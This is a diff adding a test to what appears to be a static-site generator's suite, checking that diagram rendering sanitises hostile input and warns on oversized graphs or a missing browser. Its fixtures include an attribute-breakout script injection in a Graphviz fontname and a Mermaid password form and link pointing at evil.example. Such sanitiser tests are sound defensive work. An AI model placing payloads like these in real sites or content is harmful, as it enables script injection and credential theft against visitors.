@@ -178,4 +178,43 @@ flowchart LR
     expect(r.code, r.stdout + r.stderr).toBe(0);
     expect(r.stdout + r.stderr).not.toMatch(/duplicate-id/);
   });
+
+  it('lets no diagram carry script, HTML or links: Graphviz fontname, Mermaid HTML labels; a huge graph and a browser that will not start are warnings', { timeout: 180_000 }, async () => {
+    const dir = await site(`-- content/writing/hostile.md --
+---
+title: Hostile
+date: 2024-03-01
+---
+\`\`\`dot
+digraph G { e [fontname="\\"><script>window.__pwned=1</script>", label="e"]; }
+\`\`\`
+
+\`\`\`mermaid
+%%{init: {"htmlLabels":true, "flowchart":{"htmlLabels":true}}}%%
+flowchart LR
+  A["<form action='https://evil.example/'><input name=pw></form>"] --> B
+  click B "https://evil.example/"
+\`\`\`
+
+\`\`\`dot
+digraph big { ${Array.from({ length: 2500 }, (_, i) => `n${i} -> n${(i * 7 + 1) % 2500};`).join(' ')} }
+\`\`\`
+`);
+    const r = await runCli(['build', dir, '--out', join(dir, 'dist')]);
+    expect(r.code, r.stderr).toBe(0);
+    const page = await readFile(join(dir, 'dist/writing/hostile/index.html'), 'utf8');
+    const figures = [...page.matchAll(/<figure class="diagram"[\s\S]*?<\/figure>/g)].map((m) => m[0]);
+    expect(figures).toHaveLength(3);
+    for (const f of figures.slice(0, 2)) {
+      expect(f).toContain('<svg');
+      expect(f).not.toMatch(/<script|<form|<input|foreignObject|evil\.example|__pwned=1<|<a[\s>]/);
+    }
+    expect(figures[2]).toMatch(/data-lang="dot"/);
+    expect(r.stdout + r.stderr).toMatch(/CB1433[\s\S]*too large to lay out/);
+
+    const noBrowser = await site(DIAGRAMS);
+    const failed = await runCli(['build', noBrowser, '--out', join(noBrowser, 'dist')], { CHROME_PATH: '/bin/false' });
+    expect(failed.code, failed.stderr).toBe(0);
+    expect(failed.stdout + failed.stderr).toContain('CB1432');
+  });
 });
